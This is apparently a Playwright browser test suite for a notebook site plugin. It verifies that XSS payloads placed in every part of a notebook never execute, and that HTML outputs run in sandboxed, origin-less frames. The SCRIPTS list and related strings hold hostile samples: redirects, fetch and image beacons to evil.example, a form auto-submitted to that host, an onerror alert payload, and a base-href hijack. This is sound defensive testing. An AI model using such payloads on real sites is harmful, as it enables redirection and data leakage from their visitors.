"""Attacks on every place of a notebook, opened in a real browser: nothing of them runs.

The pages are served with a policy that only reports: the browser itself then tells of each script,
handler and `javascript:` link that it would run, whatever that does. Charts and HTML with scripts
run in frames of their own, without an origin; what is in there is none of the page's.
"""

from __future__ import annotations

import base64
import hashlib
import http.server
import json
import re
from collections.abc import Iterator
from contextlib import AbstractContextManager
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import pytest
import yaml
from bs4 import BeautifulSoup
from playwright.sync_api import Browser, Error, Page

from tests.browser.conftest import serve
from tests.corpus.conftest import corpus  # noqa: F401 - a fixture
from tests.corpus.vectors import read_vectors
from tests.notebooks.test_attacks import ATTACKS, in_cells
from tests.site.building import build_site

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

PLAIN = ("text/plain", "application/json", "text/javascript", "application/x-unknown", "text/latex")


def notebook(cells: list[dict[str, Any]], **metadata: object) -> str:
    front = {"cell_type": "raw", "source": f"---\n{json.dumps(metadata)}\n---\n"}
    names = {key: metadata.get("title", "") for key in ("name", "display_name", "language")}
    return json.dumps(
        {
            "nbformat": 4,
            "metadata": {"kernelspec": names, "language_info": names | {"pygments_lexer": "r"}},
            "cells": [front, *cells],
        }
    )


def show(**data: str) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": data}


def in_bulk(texts: list[str]) -> list[dict[str, Any]]:
    """Each text in a cell of its own where it is read as markup; elsewhere all in one."""
    outputs = [show(**{kind: html}) for text in texts for kind, html in (
        ("text/html", text), ("text/html", f"<table><tr><td>{text}"), ("text/markdown", text),
    )]  # fmt: skip
    whole = "\n".join(texts)
    outputs += [show(**{kind: whole}) for kind in PLAIN]
    outputs += [{"output_type": "stream", "name": name, "text": whole} for name in ("stdout", "x")]
    outputs += [{"output_type": "error", "ename": whole, "traceback": texts}]
    cells = [{"cell_type": "markdown", "source": text} for text in texts]
    return [*cells, {"cell_type": "code", "source": whole, "outputs": outputs}]


def write_site(root: Path, notebooks: dict[str, str]) -> Path:
    content = root / "content"
    content.mkdir()
    (content / "index.md").write_text("# Home\n")
    for name, text in notebooks.items():
        (content / f"{name}.ipynb").write_text(text, encoding="utf-8")
    settings = {
        "site_name": "Attacked",
        "site_url": "http://127.0.0.1:8000/",
        "docs_dir": "content",
        "theme": {
            "name": "material",
            "font": False,
            "features": ["navigation.instant", "content.tooltips", "search.suggest"],
        },
        "plugins": ["search", "tags", {"proofolio/notebooks": {
            "errors": "show", "search": "all", "cache_dir": str(root / "cache")}}],
    }  # fmt: skip
    (root / "mkdocs.yml").write_text(yaml.safe_dump(settings))
    return root / "mkdocs.yml"


class _Handler(http.server.SimpleHTTPRequestHandler):
    policy = ""

    def end_headers(self) -> None:
        self.send_header("Content-Security-Policy-Report-Only", self.policy)
        super().end_headers()

    def log_message(self, *_: object) -> None:
        pass


def policy_of(page: str) -> str:
    """A policy that knows the theme's own inline scripts, and no others."""
    scripts = BeautifulSoup(page, "html.parser").find_all("script", src=False, type=False)
    home = [str(script.string) for script in scripts]
    # One of them says how deep the page stands.
    both = home + [script.replace('URL(".",', 'URL("..",') for script in home]
    digests = [base64.b64encode(hashlib.sha256(script.encode()).digest()) for script in both]
    known = " ".join(f"'sha256-{digest.decode()}'" for digest in digests)
    return (
        f"default-src 'self'; script-src 'self' blob: 'report-sample' {known}; "
        "style-src 'self' 'unsafe-inline'; img-src 'self' data:; base-uri 'none'; "
        "form-action 'none'; object-src 'none'"
    )


def serve_reporting(folder: Path) -> AbstractContextManager[str]:
    """Serve a site whose pages tell of whatever its policy does not know."""
    policy = policy_of((folder / "index.html").read_text(encoding="utf-8"))
    return serve(folder, type("Handler", (_Handler,), {"policy": policy}), "/")


HOOKS = """
window.pfRan = [];
for (const name of ["alert", "confirm", "prompt", "print", "open"]) {
  window[name] = (...given) => { window.pfRan.push(`${name}(${given})`); };
}
addEventListener("securitypolicyviolation", (event) => {
  window.pfRan.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
});
"""
PROVOKE = """
async () => {
  const types = ("mouseover mouseenter mouseout mousedown pointerover pointerdown focus focusin "
    + "blur keydown input change toggle beforetoggle wheel drop paste scroll load error "
    + "animationend transitionend auxclick contextmenu dblclick submit").split(" ");
  const all = [...document.querySelectorAll(".pf-notebook *, .md-nav *, .pf-problems *")];
  const odd = [];
  for (const part of document.querySelectorAll("article details")) part.open = true;
  // Links are judged by their addresses; to follow each of them would load all pages.
  const stay = (event) => {
    if (!event.target.closest?.("a")) return;
    event.preventDefault();
    event.stopImmediatePropagation();
  };
  addEventListener("click", stay, true);
  for (const part of all) {
    const names = part.getAttributeNames().filter((name) => name !== "class");
    if (names.some((name) => /^on|^srcdoc$|^formaction$/i.test(name))) odd.push(part.outerHTML);
    if (!names.length || part.closest("[data-pf-start]")) continue;
    for (const type of types) part.dispatchEvent(new Event(type));
    const address = part.getAttribute("href") ?? part.getAttribute("xlink:href");
    if (address && !/^(https?:|mailto:|tel:)/.test(new URL(address, document.baseURI).href)) {
      odd.push(part.outerHTML);
    }
    part.click?.();
  }
  scrollTo(0, document.body.scrollHeight);
  await new Promise((done) => setTimeout(done, 100));
  removeEventListener("click", stay, true);
  return odd;
}
"""


class Watch:
    """Gathers all that a page does though it should not."""

    def __init__(self, page: Page, address: str) -> None:
        self.page, self.address = page, address
        self.found: list[str] = []
        page.add_init_script(HOOKS)
        page.on("dialog", self._dialog)
        page.on("popup", lambda popup: self.found.append(f"opened {popup.url}"))
        page.on("request", lambda request: self._request(request.url))
        page.on("download", lambda download: self.found.append(f"saved {download.url}"))

    def _dialog(self, dialog: Any) -> None:
        self.found.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _request(self, url: str) -> None:
        if not url.startswith((self.address, "data:", "blob:", "about:")):
            self.found.append(f"asked {url}")

    def visit(self, path: str) -> None:
        try:
            self.page.goto(self.address + path, wait_until="load")
            self.found += [f"{path}: {odd}" for odd in self.page.evaluate(PROVOKE)]
            self.look(path)
        except Error as error:  # of a page that went elsewhere, or never ends
            self.found.append(f"{path}: {error.message}")

    def look(self, path: str) -> None:
        self.found += [f"{path}: {ran}" for ran in self.page.evaluate("window.pfRan")]
        if not unquote(self.page.url).startswith(unquote(f"{self.address}{path}")):
            self.found.append(f"{path} left for {self.page.url}")


def build_attacked(root: Path, notebooks: dict[str, str]) -> Path:
    """Build as `serve` does, where pages stay although the links in attacks lead nowhere."""
    return build_site(write_site(root, notebooks), root / "site", serving=True, strict=False).folder


def every_place(texts: list[str]) -> dict[str, str]:
    """Notebooks with each text in each place of a cell, and all in names and front matter."""
    found = {
        f"places-{start:04}": notebook(
            [cell for text in texts[start : start + 20] for cell in in_cells(text)]
        )
        for start in range(0, len(texts), 20)
    }
    # The names of all pages stand on each of them, so there is not one for each text.
    for number in range(0, len(texts), 5):
        five = texts[number : number + 5]
        name = re.sub(r"[/\x00-\x20]+", " ", f"{number:03} {five[0]}")[:60].strip()
        front: dict[str, object] = dict.fromkeys(("date", "status"), five[0])
        front |= dict.fromkeys(("title", "description", "keywords"), " ".join(five))
        front |= dict(zip(("subtitle", "author", "image"), five, strict=False))
        front |= {"authors": five}
        front |= {"tags": [*five, *(f'"{text}' for text in five)]}
        found[name] = notebook([{"cell_type": "markdown", "source": "# a\n\nx"}], **front)
    return found


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    yield context.new_page()
    context.close()


def test_nothing_runs_in_any_place(page: Page, tmp_path: Path) -> None:
    notebooks = every_place(list(ATTACKS.values()))
    folder = build_attacked(tmp_path, notebooks)
    with serve_reporting(folder) as address:
        watch = Watch(page, address)
        for path in sorted(path.name for path in folder.glob("places-*")):
            watch.visit(f"{path}/")
            assert watch.found == []
        watch.visit("")
        for path in sorted(path.name for path in folder.glob("?[05]0 *")):
            watch.visit(f"{quote(path)}/")
        # What the theme makes of titles and texts when it searches, and without a reload.
        page.goto(f"{address}?q=alert")
        page.locator(".md-search-result__item").first.wait_for()
        watch.look("")
        page.goto(address)
        page.locator(".md-nav__link[href*='places-']").first.click()
        page.wait_for_url("**/places-*/")
        watch.look("places-")
        assert watch.found == []
        assert page.locator("base").count() == 0


def test_nothing_of_a_public_collection_runs(
    page: Page,
    tmp_path: Path,
    corpus: Path,  # noqa: F811
) -> None:
    vectors = read_vectors(corpus)
    assert len(vectors) > 3_000
    notebooks = {
        f"bulk-{start:04}": notebook(in_bulk(vectors[start : start + 400]))
        for start in range(0, len(vectors), 400)
    } | {"places": notebook([cell for text in vectors[::60] for cell in in_cells(text)])}
    folder = build_attacked(tmp_path, notebooks)
    with serve_reporting(folder) as address:
        watch = Watch(page, address)
        for name in notebooks:
            watch.visit(f"{name}/")
            assert watch.found == []


SCRIPTS = [
    "alert(1)",
    "top.location = 'https://evil.example'",
    "parent.document.body.remove()",
    "top.document.title = 'x'",
    "open('https://evil.example')",
    "localStorage.x = 1",
    "for (const w of [parent, parent.parent]) w.postMessage({height: 9e9, drawn: true,"
    " failed: '<img src=x onerror=alert(1)>'}, '*')",
    "document.body.innerHTML = '<form target=_top action=//evil.example><button>x';"
    "document.forms[0].submit()",
    "new Image().src = 'https://evil.example/a'",
    "fetch('https://evil.example/b')",
]


def test_frames_of_scripts_have_no_origin(page: Page, tmp_path: Path) -> None:
    html = [f"<p>Seen</p><script>{script}</script>" for script in SCRIPTS]
    html.append('<meta http-equiv=refresh content="0;url=https://evil.example"><script>1</script>')
    html.append('<base href="https://evil.example/" target=_top><script src="x.js"></script>')
    cells = [{"cell_type": "code", "source": "x", "outputs": [show(**{"text/html": text})]}
             for text in html]  # fmt: skip
    folder = build_attacked(tmp_path, {"frames": notebook(cells)})
    with serve_reporting(folder) as address:
        watch = Watch(page, address)
        watch.visit("frames/")
        buttons = page.locator("[data-pf-start]")
        for button in buttons.all():
            button.click()
        page.wait_for_timeout(1_000)
        watch.look("frames/")
        frames = page.locator("iframe").all()
        for frame in frames:
            sandbox = (frame.get_attribute("sandbox") or "none").split()
            assert sandbox == ["allow-scripts"]
        assert len(frames) >= len(SCRIPTS)
        assert page.title() == "frames - Attacked"
        assert page.locator(".pf-notebook").count() == 1
        # Addresses that the author's scripts name are asked for only where the button said so.
        assert [found for found in watch.found if "asked" not in found] == []
